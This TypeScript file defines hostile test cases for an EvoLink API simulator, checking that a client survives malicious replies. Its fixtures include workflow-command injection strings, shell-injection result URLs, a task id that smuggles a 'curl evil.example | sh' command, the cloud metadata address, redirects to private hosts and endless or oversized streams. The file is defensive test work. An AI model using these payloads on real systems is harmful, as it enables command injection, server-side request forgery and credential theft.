// The simulator's hostile mode: an EvoLink that misbehaves on purpose. Each case is a named switch, used by
// test/e2e/hostile.test.ts and by the simulator CLI (--hostile NAME); docs/reliability.md lists them all.
import type { EvoLinkSimulator, Fault, FaultTarget } from './server.js'

const MiB = 1 << 20

/** A switch: what to inject, given the running simulator (some cases point back at its own hosts). */
export type HostileCase = { about: string; faults: (sim: EvoLinkSimulator) => [FaultTarget, Fault, number?][] }

const completedWith = (results: unknown[]): Fault => ({ kind: 'patch', fields: { status: 'completed', progress: 100, results } })

export const HOSTILE = {
  'command-in-status': {
    about: 'status and progress text that tries to start workflow commands',
    faults: () => [['poll', { kind: 'patch', fields: { status: 'processing\n::stop-commands::pwned\n::add-mask::x' } }]]
  },
  'command-in-error': {
    about: 'a failed task whose error code and message carry workflow commands, mentions and Markdown',
    faults: () => [
      [
        'poll',
        {
          kind: 'patch',
          fields: {
            status: 'failed',
            error: { code: 'bad\n::error::fake', message: 'line one\r::warning::fake\n::add-mask::secret @octocat and @github/security-team [x](https://evil.example)' }
          }
        }
      ]
    ]
  },
  'injection-url': {
    about: 'result URLs holding shell syntax that a `run:` line with ${{ }} would execute',
    faults: () => [['poll', completedWith(['https://cdn.example/v.mp4";$(touch pwned);`id`;\'x', 'javascript:alert(1)'])]]
  },
  'bad-task-id': {
    about: 'a submission accepted with an id that is not an EvoLink task id',
    faults: () => [['submit', { kind: 'patch', fields: { id: 'task-unified-1; curl evil.example | sh' } }]]
  },
  'private-result': {
    about: 'a result URL on the cloud metadata address',
    faults: () => [['poll', completedWith(['http://169.254.169.254/latest/meta-data/iam.mp4'])]]
  },
  'unspecified-result': {
    about: 'a result URL on 0.0.0.0 (which reaches the runner itself)',
    faults: sim => [['poll', completedWith([`http://0.0.0.0:${new URL(sim.filesUrl).port}/videos/v.mp4`])]]
  },
  'redirect-to-private': {
    about: 'the video host redirects to a private address',
    faults: () => [['file', { kind: 'redirect', status: 302, location: 'http://10.0.0.5/internal.mp4' }]]
  },
  'endless-403': {
    about: 'the video host answers 403 with a body that never ends',
    faults: () => [['file', { kind: 'flood', status: 403 }]]
  },
  'huge-content-length': {
    about: 'the video host announces 40 GiB and streams without end',
    faults: () => [['file', { kind: 'flood', status: 200, contentLength: String(40 * 1024 ** 3) }]]
  },
  'endless-video': {
    about: 'the video host streams without end and without a Content-Length',
    faults: () => [['file', { kind: 'flood', status: 200 }]]
  },
  'dripping-video': {
    about: 'the video host sends 1 KiB every 50 ms, forever: never idle, never done',
    faults: () => [['file', { kind: 'flood', status: 200, paceMs: 50 }]]
  },
  'upload-quota': {
    about: "the files API refuses an upload: the account's file quota is used up",
    faults: () => [
      [
        'upload',
        { kind: 'status', status: 403, contentType: 'application/json', body: JSON.stringify({ success: false, code: 403, msg: 'File quota exceeded: 2000 of 2000 files used' }) }
      ]
    ]
  },
  'huge-api-reply': {
    about: 'a 200 poll reply of 1 GiB',
    faults: () => [['poll', { kind: 'flood', status: 200, bytes: 1024 * MiB }, 20]]
  },
  'endless-api-error': {
    about: 'a 503 poll reply whose body never ends',
    faults: () => [['poll', { kind: 'flood', status: 503 }, 20]]
  },
  'huge-error-message': {
    about: 'a failed task whose error message is 900 KiB',
    faults: () => [['poll', { kind: 'patch', fields: { status: 'failed', error: { code: 'x', message: 'A'.repeat(900 * 1024) } } }]]
  },
  'many-urls': {
    about: '200 result URLs of 4 KiB each',
    faults: sim => [['poll', completedWith(Array.from({ length: 200 }, (_, i) => `${sim.filesUrl}/videos/${i}-${'a'.repeat(4000)}.mp4`))]]
  },
  'created-in-ms': {
    about: '`created` in milliseconds',
    faults: () => [['poll', { kind: 'patch', fields: { created: Date.now() } }, 50]]
  },
  'created-in-future': {
    about: '`created` a century ahead, estimated_time absurd',
    faults: () => [['poll', { kind: 'patch', fields: { created: Math.floor(Date.now() / 1000) + 100 * 365 * 86400, task_info: { estimated_time: 1e300 } } }, 50]]
  },
  'created-absurd': {
    about: '`created` of 10^15, past the largest date JavaScript can print',
    faults: () => [['poll', { kind: 'patch', fields: { created: 1e15 } }, 50]]
  },
  'odd-estimate': {
    about: 'estimated_time missing, negative or a string',
    faults: () => [
      ['submit', { kind: 'patch', fields: { task_info: { estimated_time: -5 } } }],
      ['poll', { kind: 'patch', fields: { task_info: { estimated_time: 'soon' } } }, 3]
    ]
  }
} satisfies Record<string, HostileCase>

export type HostileName = keyof typeof HOSTILE

/** Switches a hostile case on. */
export function turnHostile(sim: EvoLinkSimulator, name: HostileName): void {
  for (const [target, fault, times] of (HOSTILE[name] as HostileCase).faults(sim)) sim.inject(target, fault, times ?? 1)
}
